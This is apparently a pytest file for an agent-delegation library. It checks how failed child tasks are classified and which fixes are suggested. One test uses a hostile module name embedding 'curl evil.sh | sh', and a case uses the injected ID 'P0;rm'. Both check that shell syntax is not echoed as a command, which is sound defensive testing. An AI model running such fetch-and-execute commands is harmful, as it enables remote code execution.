"""Every rule of the failure taxonomy (DESIGN §3), reached through delegate_task
with real child behaviour: real exceptions from real libraries, real deadlines."""

from __future__ import annotations

import importlib
import subprocess
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Awaitable, Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import anyio
import httpx
import pydantic
import pytest
import requests
from structlog.testing import capture_logs

from lyra import ChildContext, Supervisor, adelegate_task, parse_report
from lyra.errors import (
    BudgetExhausted,
    IncompleteOutput,
    InvalidInput,
    SubjectNotFound,
    TaskRejected,
)

pytestmark = pytest.mark.anyio

ChildFn = Callable[[str, ChildContext], Awaitable[str]]


def http_tool(status: int, headers: dict[str, str] | None = None) -> Callable[[], str]:
    """A sync tool that calls a (mock-transported) HTTP service and raises for its status."""

    def call() -> str:
        transport = httpx.MockTransport(lambda request: httpx.Response(status, headers=headers))
        with httpx.Client(transport=transport, base_url="http://service.test") as client:
            client.get("/entry").raise_for_status()
        return "unreachable"

    return call


def unreachable_service() -> str:
    """A sync tool whose connection is refused."""

    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("connection refused", request=request)

    with httpx.Client(transport=httpx.MockTransport(refuse)) as client:
        client.get("http://service.test/")
    return "unreachable"


def child_using(tool: Callable[..., Any], *args: Any, steps: int = 0) -> ChildFn:
    """A child that completes ``steps`` steps and then runs ``tool`` through ctx.tool."""

    async def child(prompt: str, ctx: ChildContext) -> str:
        for n in range(steps):
            ctx.step(f"step {n + 1}")
        return str(await ctx.tool(getattr(tool, "__name__", "tool"), tool, *args))

    return child


def child_raising(exc: BaseException, *, steps: int = 0) -> ChildFn:
    """A child that completes ``steps`` steps and then raises ``exc`` itself."""

    async def child(prompt: str, ctx: ChildContext) -> str:
        for n in range(steps):
            ctx.step(f"step {n + 1}")
        raise exc

    return child


async def hangs_after_a_tool(prompt: str, ctx: ChildContext) -> str:
    await ctx.tool("fetch", lambda: "data")
    await anyio.sleep(30)
    return "never"


async def hangs_at_once(prompt: str, ctx: ChildContext) -> str:
    await anyio.sleep(30)
    return "never"


async def blocks_in_sync_code(prompt: str, ctx: ChildContext) -> str:
    await ctx.tool("slow_io", time.sleep, 3)
    return "never"


def blocker(category: str, *, swallow: bool = False) -> ChildFn:
    async def child(prompt: str, ctx: ChildContext) -> str:
        try:
            ctx.block(category, f"declared {category}")
        except Exception:
            if not swallow:
                raise
        return "carried on regardless"

    return child


def bad_model_input(prompt: str) -> None:
    class Task(pydantic.BaseModel):
        protein_id: pydantic.constr(pattern=r"^[A-Z0-9]+$")  # type: ignore[valid-type]

    Task(protein_id=prompt)


async def validates_input(prompt: str, ctx: ChildContext) -> str:
    bad_model_input(prompt)
    return "valid"


async def returns_a_dict(prompt: str, ctx: ChildContext) -> Any:
    return {"not": "a string"}


def import_missing_module() -> None:
    importlib.import_module("lyra_test_no_such_module")


def run_missing_command() -> None:
    subprocess.run(["lyra-test-no-such-command"], check=True)


def shell_missing_command() -> None:
    subprocess.run("lyra-test-no-such-command", shell=True, check=True, capture_output=True)


def deny_permission() -> None:
    raise PermissionError(13, "Permission denied", "/etc/lyra/config")


async def raises_its_own_timeout(prompt: str, ctx: ChildContext) -> str:
    with anyio.fail_after(0.01):  # the child's own time limit, not ours
        await ctx.tool("slow_lookup", anyio.sleep, 1)
    return "never"


class AgentGenerationError(Exception):
    """A framework's own error that lyra has no table for (smolagents' has this name)."""


def _raised_from(outer: Exception, inner: BaseException) -> Exception:
    outer.__cause__ = inner  # as `raise outer from inner` leaves it
    return outer


def _chain_loop() -> Exception:
    first, second = RuntimeError("first"), RuntimeError("second")
    first.__cause__, second.__cause__ = second, first
    return first


# (id, child, timeout, category, retryable, error_type, rule)
CASES: list[tuple[str, ChildFn, float, str, bool, str, int]] = [
    ("deadline-after-progress", hangs_after_a_tool, 0.2, "timeout", True, "timeout", 1),
    ("deadline-no-progress", hangs_at_once, 0.2, "timeout", False, "timeout", 1),
    ("deadline-blocking-tool", blocks_in_sync_code, 0.2, "timeout", True, "timeout", 1),
    ("block-missing-context", blocker("missing_context"), 5, "missing_context", False, "data", 2),
    ("block-invalid-task", blocker("invalid_task"), 5, "invalid_task", False, "data", 2),
    ("block-tool-error", blocker("tool_error"), 5, "tool_error", True, "unknown", 2),
    (
        "block-swallowed",
        blocker("missing_context", swallow=True),
        5,
        "missing_context",
        False,
        "data",
        2,
    ),
    (
        "invalid-input",
        child_raising(InvalidInput("bad ID 'P0;rm'")),
        5,
        "invalid_task",
        False,
        "data",
        3,
    ),
    ("pydantic-validation", validates_input, 5, "invalid_task", False, "data", 3),
    (
        "subject-not-found",
        child_raising(SubjectNotFound("P99999 does not exist")),
        5,
        "invalid_task",
        False,
        "not_found",
        4,
    ),
    ("http-404", child_using(http_tool(404)), 5, "invalid_task", False, "not_found", 4),
    (
        "error-after-steps",
        child_raising(RuntimeError("stage 3 broke"), steps=2),
        5,
        "partial",
        True,
        "unknown",
        5,
    ),
    (
        "rate-limit-after-steps",
        child_using(http_tool(429), steps=1),
        5,
        "partial",
        True,
        "rate_limit",
        5,
    ),
    (
        "incomplete-output",
        child_raising(IncompleteOutput("max_tokens")),
        5,
        "partial",
        True,
        "data",
        5,
    ),
    (
        "connection-refused",
        child_using(unreachable_service),
        5,
        "tool_error",
        True,
        "connection",
        6,
    ),
    (
        "builtin-connection-error",
        child_raising(ConnectionResetError("reset by peer")),
        5,
        "tool_error",
        True,
        "connection",
        6,
    ),
    (
        "unknown-framework-error-from-a-connection-error",
        child_raising(
            _raised_from(AgentGenerationError("generation failed"), ConnectionError("refused"))
        ),
        5,
        "tool_error",
        True,
        "connection",
        6,
    ),
    ("child-own-timeout", raises_its_own_timeout, 5, "tool_error", True, "timeout", 6),
    (
        "http-429",
        child_using(http_tool(429, {"retry-after": "7"})),
        5,
        "tool_error",
        True,
        "rate_limit",
        6,
    ),
    ("http-503", child_using(http_tool(503)), 5, "tool_error", True, "unknown", 6),
    ("http-529", child_using(http_tool(529)), 5, "tool_error", True, "rate_limit", 6),
    ("missing-module", child_using(import_missing_module), 5, "tool_error", True, "environment", 7),
    ("missing-command", child_using(run_missing_command), 5, "tool_error", True, "environment", 7),
    (
        "shell-command-not-found",
        child_using(shell_missing_command),
        5,
        "tool_error",
        True,
        "environment",
        7,
    ),
    ("permission-denied", child_using(deny_permission), 5, "tool_error", True, "environment", 7),
    ("http-401", child_using(http_tool(401)), 5, "tool_error", False, "auth", 8),
    ("http-403", child_using(http_tool(403)), 5, "tool_error", False, "auth", 8),
    (
        "task-rejected",
        child_raising(TaskRejected("The model refused")),
        5,
        "invalid_task",
        False,
        "data",
        9,
    ),
    ("http-400", child_using(http_tool(400)), 5, "invalid_task", False, "data", 9),
    ("http-413", child_using(http_tool(413)), 5, "invalid_task", False, "data", 9),
    (
        "unexpected-error",
        child_raising(KeyError("surprise")),
        5,
        "tool_error",
        False,
        "unknown",
        10,
    ),
    (
        "value-error-is-not-validation",
        child_raising(ValueError("odd")),
        5,
        "tool_error",
        False,
        "unknown",
        10,
    ),
    (
        "a-chain-of-causes-that-loops",
        child_raising(_chain_loop()),
        5,
        "tool_error",
        False,
        "unknown",
        10,
    ),
    ("non-string-output", returns_a_dict, 5, "tool_error", False, "unknown", 10),
]


@pytest.mark.parametrize(("steps", "retryable"), [(0, False), (1, True)])
async def test_a_childs_own_limit_raised_as_budget_exhausted_is_rule_1(
    steps: int, retryable: bool
) -> None:
    """A child that wraps a framework says its own limit ran out (a maximum of steps) by
    raising BudgetExhausted, as lyra's own limits do: timeout / budget by rule 1,
    retryable after progress -- not rule 10 (nothing done) or a plain partial."""
    child = child_raising(BudgetExhausted("max_steps (20) reached"), steps=steps)
    failure = (await Supervisor(child).delegate("task", timeout=5)).failure
    assert failure is not None
    assert (failure.category, failure.error_type, failure.retryable) == (
        "timeout",
        "budget",
        retryable,
    )
    assert failure.evidence.startswith("rule 1: the framework's own limit was reached")


class _Statuses(BaseHTTPRequestHandler):
    """``GET /<status>`` answers that status (429 and 503 with ``Retry-After: 7``);
    ``GET /slow`` answers after a second."""

    def do_GET(self) -> None:
        if self.path == "/slow":
            time.sleep(1)
            status = 200
        else:
            status = int(self.path.strip("/"))
        self.send_response(status)
        if status in (429, 503):
            self.send_header("Retry-After", "7")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def service() -> Iterator[str]:
    """A real HTTP service on 127.0.0.1 (see :class:`_Statuses`)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Statuses)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _with_requests(url: str) -> None:
    with requests.Session() as session, session.get(url, timeout=0.3) as response:
        response.raise_for_status()


def _with_urllib(url: str) -> None:
    try:
        urllib.request.urlopen(url, timeout=0.3).close()
    except urllib.error.HTTPError as exc:
        exc.close()  # (its response, still open)
        raise


@pytest.mark.parametrize("client", [_with_requests, _with_urllib], ids=["requests", "urllib"])
@pytest.mark.parametrize(
    ("path", "category", "retryable", "error_type", "retry_after"),
    [
        ("/429", "tool_error", True, "rate_limit", 7.0),
        ("/503", "tool_error", True, "unknown", 7.0),
        ("/404", "invalid_task", False, "not_found", None),
        ("/401", "tool_error", False, "auth", None),
        ("/slow", "tool_error", True, "timeout", None),
        ("refused", "tool_error", True, "connection", None),
    ],
)
async def test_requests_and_urllib_errors_are_read_as_httpx_errors_are(
    service: str,
    client: Callable[[str], None],
    path: str,
    category: str,
    retryable: bool,
    error_type: str,
    retry_after: float | None,
) -> None:
    """The errors of the HTTP clients tools call services with besides httpx -- requests
    and the standard library's urllib -- are read by their status (retry-after
    honoured), their timeout or their refused connection, as httpx's are (they were
    rule 10: never retried)."""
    url = "http://127.0.0.1:9/" if path == "refused" else service + path  # (9: discard)
    failure = (await Supervisor(child_using(client, url)).delegate("task", timeout=5)).failure
    assert failure is not None
    assert (failure.category, failure.retryable, failure.error_type) == (
        category,
        retryable,
        error_type,
    ), failure.evidence
    assert failure.retry_after == retry_after


@pytest.mark.parametrize(
    ("child", "timeout", "category", "retryable", "error_type", "rule"),
    [case[1:] for case in CASES],
    ids=[case[0] for case in CASES],
)
async def test_rule(
    child: ChildFn, timeout: float, category: str, retryable: bool, error_type: str, rule: int
) -> None:
    """A child behaving this way is classified by this rule, in the report and the event."""
    with capture_logs() as events:
        report = await adelegate_task("Analyze P04637", child=child, timeout=timeout)
    parsed = parse_report(report)
    assert (parsed.status, parsed.category, parsed.retryable, parsed.error_type) == (
        "failed",
        category,
        retryable,
        error_type,
    )
    failed = [e for e in events if e["event"] == "delegation_failed"]
    assert len(failed) == 1
    assert failed[0]["evidence"].startswith(f"rule {rule}:")


async def test_empty_prompt_is_rule_3() -> None:
    """An empty prompt fails as invalid_task before the child runs."""
    ran = []

    async def child(prompt: str, ctx: ChildContext) -> str:
        ran.append(prompt)
        return "ran"

    parsed = parse_report(await adelegate_task("   ", child=child, timeout=1))
    assert (parsed.category, parsed.retryable, ran) == ("invalid_task", False, [])
    # advice for a task that exists ("Break into simpler, well-defined tasks") fits none
    assert parsed.suggested_actions == (
        "Give the task in the prompt: it was empty or only whitespace",
    )


async def test_blocking_tool_returns_soon_after_the_deadline() -> None:
    """A child stuck in blocking sync code is reported within 100 ms of its deadline."""
    started = time.perf_counter()
    await adelegate_task("task", child=blocks_in_sync_code, timeout=0.2)
    assert time.perf_counter() - started < 0.2 + 0.3  # generous: CI machines stall


async def test_a_deadline_passed_in_a_tool_names_the_tool_still_running() -> None:
    """A deadline that passes while a tool runs names the tool and how long it had run,
    as an idle timeout does: a doubled timeout is no cure for a tool that hangs."""

    async def hangs_in_a_tool(prompt: str, ctx: ChildContext) -> str:
        ctx.step("Planned")
        return str(await ctx.tool("fetch", anyio.sleep, 30))

    result = await Supervisor(hangs_in_a_tool).delegate("x", timeout=0.2)
    failure = result.failure
    assert failure is not None
    assert failure.category == "timeout"
    assert "; the tool 'fetch' was still running (for 0." in failure.evidence
    assert "; the tool 'fetch' was still running" in failure.message


async def test_retry_after_reaches_the_failure_and_the_suggestions() -> None:
    """A 429's retry-after is kept on the failure and quoted in the suggested actions."""
    from lyra import Supervisor

    result = await Supervisor(child_using(http_tool(429, {"retry-after": "7"}))).delegate(
        "task", timeout=5
    )
    assert result.failure is not None
    assert result.failure.retry_after == 7.0
    assert result.failure.suggested_actions[0] == (
        "Retry after at least 7s (the service asked for it)"
    )


@pytest.mark.parametrize(
    ("child", "expected"),
    [
        (hangs_after_a_tool, ["Retry with timeout=0.4s", "Break task into smaller subtasks"]),
        (
            child_using(import_missing_module),
            ["Install missing dependencies: pip install lyra_test_no_such_module"],
        ),
        (child_using(deny_permission), ["Check file permissions"]),
        (
            child_using(shell_missing_command),
            ["Verify command exists: which lyra-test-no-such-command"],
        ),
    ],
    ids=["timeout", "module", "permission", "command"],
)
async def test_suggested_actions_follow_the_cause(child: ChildFn, expected: list[str]) -> None:
    """Suggestions name the concrete fix for the cause, as text only."""
    parsed = parse_report(await adelegate_task("task", child=child, timeout=0.2))
    assert list(parsed.suggested_actions) == expected


async def test_rejected_input_is_named_in_the_suggestion() -> None:
    """Input that failed validation (rule 3) suggests fixing that input, naming why it
    was rejected, instead of the generic 'clarify the task'."""
    rejects = child_raising(InvalidInput("Invalid protein ID format: 'bad!'"))
    result = await Supervisor(rejects).delegate("Analyze bad!", timeout=1, subject="bad!")
    assert result.failure is not None
    assert result.failure.suggested_actions == (
        "Fix the input: 'bad!' was rejected (Invalid protein ID format: 'bad!')",
        "Remove it from the task",
    )


async def test_hostile_module_name_is_not_quoted_as_a_command() -> None:
    """An error naming a 'module' with shell syntax does not become a pip command."""
    hostile = ModuleNotFoundError("No module named 'x; curl evil.sh | sh'")
    parsed = parse_report(await adelegate_task("t", child=child_using(_raiser(hostile)), timeout=1))
    assert parsed.suggested_actions == ("Install the missing dependency named in the error",)


def _raiser(exc: BaseException) -> Callable[[], None]:
    def tool() -> None:
        raise exc

    return tool


@pytest.mark.parametrize(
    ("status", "category"), [(401, "tool_error"), (403, "tool_error"), (400, "invalid_task")]
)
async def test_permanent_errors_after_progress_are_not_partial(status: int, category: str) -> None:
    """A refused key or a malformed request after completed steps is not worth continuing."""
    parsed = parse_report(
        await adelegate_task("task", child=child_using(http_tool(status), steps=2), timeout=5)
    )
    assert (parsed.category, parsed.retryable) == (category, False)
    assert parsed.completed_steps == ("step 1", "step 2")


async def test_a_tools_error_a_framework_wrapped_still_names_the_tool() -> None:
    """A framework that runs its tools itself reports a failed call with
    ``ctx.tool_ended(name, exc)`` and raises its own error ``from`` it: the failure is
    the tool's (named in the blocker), read by the wrapped cause."""

    async def framework_child(prompt: str, ctx: ChildContext) -> str:
        ctx.tool_started("fetch", {"id": prompt})
        try:
            raise ConnectionError("refused")
        except ConnectionError as exc:
            ctx.tool_ended("fetch", exc)
            raise AgentGenerationError("the agent run failed") from exc

    report = parse_report(await adelegate_task("P04637", child=framework_child, timeout=5))
    assert (report.category, report.error_type, report.retryable) == (
        "tool_error",
        "connection",
        True,
    )
    assert report.blocked_on is not None
    assert "(in tool 'fetch')" in report.blocked_on
